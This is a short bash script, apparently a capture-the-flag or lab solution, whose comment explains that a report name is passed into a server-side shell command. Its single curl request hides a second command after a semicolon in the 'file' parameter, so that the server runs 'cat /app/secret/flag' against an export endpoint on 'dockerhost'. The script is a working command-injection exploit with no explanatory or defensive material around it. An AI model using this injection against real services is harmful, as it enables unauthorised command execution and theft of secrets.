#!/bin/bash
# The name of the report goes into a shell command. Behind a semicolon the next one begins.
curl --silent --max-time 5 --get --data-urlencode 'file=quay-north.csv; cat /app/secret/flag' http://dockerhost:8080/export
